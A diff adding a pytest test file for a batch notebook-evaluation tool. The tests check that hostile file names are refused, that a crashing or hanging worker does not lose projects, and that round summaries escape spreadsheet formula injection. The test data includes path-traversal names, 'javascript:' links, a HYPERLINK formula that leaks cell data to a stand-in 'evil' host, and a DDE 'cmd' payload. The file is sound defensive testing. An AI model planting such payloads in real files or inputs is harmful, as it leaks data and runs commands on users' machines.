@@ -1,0 +1,284 @@
+"""A round never loses a project or touches another project's outputs: hostile names, kills, hangs, crashes.
+
+Most tests here replace the per-project work (``batch.run_one``) in the forked
+workers with something that hangs, crashes or returns at once, so the batch's
+supervision is tested without kernels; the few that need real kernels run the
+small seed 001. None depends on timing beyond generous limits.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import nbformat
+import pytest
+
+from conftest import EXAMPLES, ROOT
+from evalkit import atomic, batch, names
+from evalkit.batch import FAILED, OK, Outcome, refused_names, run_round
+from evalkit.cli import main
+from evalkit.errors import InputError
+from evalkit.roundreport import safe_text
+from evalkit.runner import output_dir
+
+WORKBOOK = ROOT / "workbooks" / "project_evaluation.ipynb"
+SEED = (EXAMPLES / "001_futian_ai_centre.yaml").read_text(encoding="utf-8")
+
+
+def seed_round(folder: Path, stems: list[str]) -> Path:
+    folder.mkdir(parents=True)
+    shutil.copytree(EXAMPLES / "data", folder / "data")
+    for stem in stems:
+        (folder / f"{stem}.yaml").write_text(SEED, encoding="utf-8")
+    return folder
+
+
+# --- names ---------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("name", [
+    "", ".", "..", ".a.old-999999", ".hidden", "index.html", "INDEX.HTML", "summary.csv", "round.json",
+    "javascript:alert(1)", "a/b", "a\\b", "CON", "nul.txt", "com1", "trailing.", "trailing ", " leading",
+    "tab\there", "cr\rhere", "nl\nhere", "a" * 101, "x<y", 'q"uote', "pipe|", "star*", "what?",
+    "bidi\u202etxt", "zero\u200bwidth",
+])
+def test_names_that_cannot_be_output_folders(name):
+    assert names.name_problem(name) is not None
+
+
+@pytest.mark.parametrize("name", ["001_futian", "福田区人工智能中心", "p-01 (2)", "=HYPERLINK(1)", "a.b", "项目（一）"])
+def test_ordinary_names_pass(name):
+    assert names.name_problem(name) is None
+
+
+def test_output_dir_refuses_a_hostile_params_name(tmp_path):
+    for stem in ("..", ".x.tmp-1", "index.html"):
+        with pytest.raises(InputError) as caught:
+            output_dir(tmp_path / "outputs", tmp_path / "r" / f"{stem}.yaml")
+        assert "文件名" in str(caught.value)
+
+
+def test_collisions_name_both_files(tmp_path):
+    projects = [tmp_path / "Alpha.yaml", tmp_path / "alpha.yml", tmp_path / "beta.yaml", tmp_path / "..yaml"]
+    refused = refused_names(projects)
+    assert set(refused) == {str(tmp_path / "Alpha.yaml"), str(tmp_path / "alpha.yml"), str(tmp_path / "..yaml")}
+    assert "Alpha.yaml、alpha.yml" in refused[str(tmp_path / "alpha.yml")]
+
+
+def test_tidy_touches_only_its_own_temporaries(tmp_path):
+    folder = tmp_path / "round"
+    (folder / "a").mkdir(parents=True)
+    (folder / "a" / "manifest.json").write_text("{}")
+    dead = 2**22 + 12345  # above pid_max on this kernel: certainly not running
+    for leftover in (f".a.tmp-{dead}", f".b.old-{dead}", f".a.old-{dead}x", f".{'..'}.old-{dead}", "keep.tmp-1"):
+        (folder / leftover).mkdir()
+    (folder / f".c.old-{dead}").mkdir()
+    (folder / f".c.old-{dead}" / "manifest.json").write_text("{}")
+    (folder / f".a.tmp-{dead}.yaml").write_text("a file, not ours")
+    atomic.tidy(folder, ["a", "c"])
+    left = sorted(p.name for p in folder.iterdir())
+    # a's temporary removed; c's old outputs restored; b is not a project of this round; the rest is not ours
+    assert left == sorted(["a", "c", f".b.old-{dead}", f".a.old-{dead}x", f"..{'.'}.old-{dead}",
+                           "keep.tmp-1", f".a.tmp-{dead}.yaml"])
+
+
+def test_hostile_names_in_a_round_touch_nothing_else(tmp_path, capsys):
+    """`..yaml` and friends fail with their reason; a neighbour's outputs and the round pages survive."""
+    folder = seed_round(tmp_path / "params" / "r", ["ok"])
+    for stem in ("..", "index.html", ".a.old-999999", "javascript:alert(1)", "Dup", "dup"):
+        (folder / f"{stem}.yaml").write_text(SEED, encoding="utf-8")
+    out = tmp_path / "outputs"
+    neighbour = out / "r" / "earlier"
+    neighbour.mkdir(parents=True)
+    (neighbour / "appendix.html").write_text("an earlier project's appendix", encoding="utf-8")
+    status = main(["batch", str(folder), "--outputs", str(out), "-j", "1", "--workbook", str(WORKBOOK)])
+    text = capsys.readouterr()
+    assert status == 1, text
+    assert (neighbour / "appendix.html").read_text(encoding="utf-8") == "an earlier project's appendix"
+    assert (out / "r" / "ok" / "appendix.html").is_file()
+    assert sorted(p.name for p in (out / "r").iterdir()) == sorted(
+        ["earlier", "ok", "index.html", "summary.csv", "summary.xlsx", "round.json"])
+    document = json.loads((out / "r" / "round.json").read_text(encoding="utf-8"))
+    statuses = {p["params"]: p["status"] for p in document["projects"]}
+    assert statuses.pop("ok.yaml") == "ok" and set(statuses.values()) == {"failed"} and len(statuses) == 6
+    index = (out / "r" / "index.html").read_text(encoding="utf-8")
+    assert 'href="./ok/appendix.html"' in index and 'href="javascript' not in index
+    assert index.count("<a href") == 1
+
+
+# --- formula injection ---------------------------------------------------------------------------
+
+def test_safe_text_neutralises_formula_starts():
+    for dangerous in ("=HYPERLINK(\"http://x\",\"y\")", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "＝1"):
+        assert safe_text(dangerous).startswith("'")
+    assert safe_text("福田区项目") == "福田区项目" and safe_text("") == ""
+
+
+def test_round_summaries_keep_hostile_text_as_text(tmp_path):
+    from openpyxl import load_workbook
+
+    from evalkit.batch import RoundRun
+    from evalkit.roundreport import write_round
+
+    round_out = tmp_path / "outputs" / "r"
+    projects = []
+    hostile = ['=HYPERLINK("http://evil/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\r=1+1"]
+    for i, text in enumerate(hostile):
+        params = tmp_path / "params" / "r" / f"p{i}.yaml"
+        projects.append(params)
+        (round_out / f"p{i}").mkdir(parents=True)
+        (round_out / f"p{i}" / "results.json").write_text(json.dumps(
+            {"project": {"id": text, "name": text}, "total_score": "-1.50" if i == 2 else "88.00", "grade": "良",
+             "checks_failed": 0}, ensure_ascii=False), encoding="utf-8")
+    run = RoundRun("r", round_out, tuple(Outcome(str(p), OK, 1.0) for p in projects), 2.0, projects=len(projects))
+    write_round(run, projects, tmp_path / "outputs")
+    rows = list(csv.reader(io.StringIO((round_out / "summary.csv").read_bytes().decode("utf-8-sig"), newline="")))
+    for row, text in zip(rows[1:], hostile):
+        assert row[1] == "'" + text and row[2] == "'" + text
+    assert rows[3][3] == "-1.50"  # a number stays a number
+    sheet = load_workbook(round_out / "summary.xlsx").active
+    for r in range(2, 2 + len(hostile)):
+        for col in "BC":
+            cell = sheet[f"{col}{r}"]
+            assert cell.data_type == "s" and str(cell.value).startswith("'"), (cell.coordinate, cell.value)
+    assert sheet["D4"].value == -1.5 and sheet["D4"].data_type == "n"
+
+
+# --- supervision without kernels -----------------------------------------------------------------
+
+def fake_projects(tmp_path: Path, stems: list[str]) -> Path:
+    folder = tmp_path / "params" / "fake"
+    folder.mkdir(parents=True)
+    for stem in stems:
+        (folder / f"{stem}.yaml").write_text("project: {id: x, name: x}\n", encoding="utf-8")
+    return folder
+
+
+def behaviour(params: str, outputs_root: str, workbook: str, warm: bool = True, timeout=None) -> Outcome:
+    """Stands in for run_one in the forked workers: the params file's name says what to do."""
+    stem = Path(params).stem
+    if stem.startswith("hang"):
+        time.sleep(3600)
+    if stem.startswith("crash"):
+        import faulthandler
+
+        faulthandler.disable()  # pytest's dump of a deliberate crash is noise here
+        os.kill(os.getpid(), signal.SIGSEGV)
+    if stem.startswith("flaky"):
+        marker = Path(params).with_suffix(".died")
+        if not marker.exists():
+            marker.write_text("once")
+            os.kill(os.getpid(), signal.SIGKILL)
+    return Outcome(params, OK, 0.01, total="90.00", grade="优")
+
+
+@pytest.fixture
+def fake_work(monkeypatch):
+    monkeypatch.setattr(batch, "run_one", behaviour)
+    monkeypatch.setattr(batch, "TIMEOUT_GRACE", 0.5)
+    monkeypatch.setattr(batch.manifest, "up_to_date", lambda *a: False)
+
+
+def test_a_hanging_project_times_out_and_the_round_goes_on(tmp_path, fake_work):
+    folder = fake_projects(tmp_path, ["a", "b", "hang", "c", "d"])
+    run = run_round(folder, outputs_root=tmp_path / "out", jobs=1, workbook=WORKBOOK, timeout=2)
+    status = {Path(o.params).stem: o.status for o in run.outcomes}
+    assert status == {"a": OK, "b": OK, "hang": FAILED, "c": OK, "d": OK}
+    assert "超过时限 2 秒" in run.failed[0].error and "--timeout" in run.failed[0].error
+
+
+def test_a_crashing_project_is_retried_once_then_failed_alone(tmp_path, fake_work):
+    folder = fake_projects(tmp_path, ["a", "crash", "flaky", "b"])
+    run = run_round(folder, outputs_root=tmp_path / "out", jobs=1, workbook=WORKBOOK, timeout=60)
+    status = {Path(o.params).stem: o.status for o in run.outcomes}
+    assert status == {"a": OK, "crash": FAILED, "flaky": OK, "b": OK}  # flaky died once (killed), then ran
+    assert "被信号 11 终止" in run.failed[0].error and "重试后仍然如此" in run.failed[0].error
+
+
+def test_many_projects_none_lost(tmp_path, fake_work):
+    stems = [f"p{i:03d}" for i in range(60)] + ["crash1", "hang1"]
+    folder = fake_projects(tmp_path, stems)
+    run = run_round(folder, outputs_root=tmp_path / "out", jobs=2, workbook=WORKBOOK, timeout=2)
+    assert len(run.outcomes) == len(stems)
+    assert sorted(Path(o.params).stem for o in run.failed) == ["crash1", "hang1"]
+
+
+# --- kernels -------------------------------------------------------------------------------------
+
+def test_readiness_accepts_a_late_reply_to_an_earlier_request():
+    """On a busy machine the first kernel_info reply arrives after the client has asked again."""
+    import asyncio
+    from queue import Empty
+
+    from evalkit.warmkernel import _quick_client_class
+
+    class Channel:
+        def __init__(self, script):
+            self.script = script
+
+        async def get_msg(self, timeout=None):
+            item = self.script.pop(0) if self.script else None
+            if item is None:
+                raise Empty
+            return item() if callable(item) else item
+
+    sent: list[str] = []
+    handled: list[dict] = []
+    # Shell: nothing for the first two waits, then the reply to the FIRST request only.
+    shell = Channel([None, None, lambda: {"parent_header": {"msg_id": "req-0"}, "content": {}}])
+    iopub = Channel([lambda: {"parent_header": {"msg_id": "req-0"}, "msg_type": "status"}, None])
+
+    class SlowKernel(_quick_client_class()):
+        shell_channel = property(lambda self: shell)
+        iopub_channel = property(lambda self: iopub)
+
+        def kernel_info(self):
+            sent.append(f"req-{len(sent)}")
+            return sent[-1]
+
+        async def is_alive(self):
+            return True
+
+        def _handle_kernel_info_reply(self, reply):
+            handled.append(reply)
+
+    asyncio.run(SlowKernel().wait_for_ready(timeout=30))
+    assert handled and handled[0]["parent_header"]["msg_id"] == "req-0" and len(sent) == 3
+
+
+def test_kernel_output_to_stdout_cannot_fill_a_pipe(tmp_path):
+    """A kernel writing far more than a pipe holds to its stdout must not block (the factory's pipe is unread)."""
+    import asyncio
+
+    from evalkit.warmkernel import KernelFactory, factory_kernel_manager_class
+
+    async def write_a_lot(address: str) -> list[str]:
+        km = factory_kernel_manager_class(address)()
+        await km.start_kernel(cwd=str(tmp_path))
+        kc = km.client()
+        kc.start_channels()
+        try:
+            await kc.wait_for_ready(timeout=120)
+            statuses = []
+            for _ in range(3):  # 3 × 256 KiB to the raw file descriptor: four times what a Linux pipe holds
+                reply = await kc.execute_interactive("import os; os.write(1, b'x' * 262144)", timeout=120,
+                                                     output_hook=lambda msg: None)
+                statuses.append(reply["content"]["status"])
+            return statuses
+        finally:
+            kc.stop_channels()
+            await km.shutdown_kernel(now=True)
+
+    factory = KernelFactory()
+    try:
+        assert asyncio.run(write_a_lot(factory.address)) == ["ok", "ok", "ok"]
+    finally:
+        factory.close()
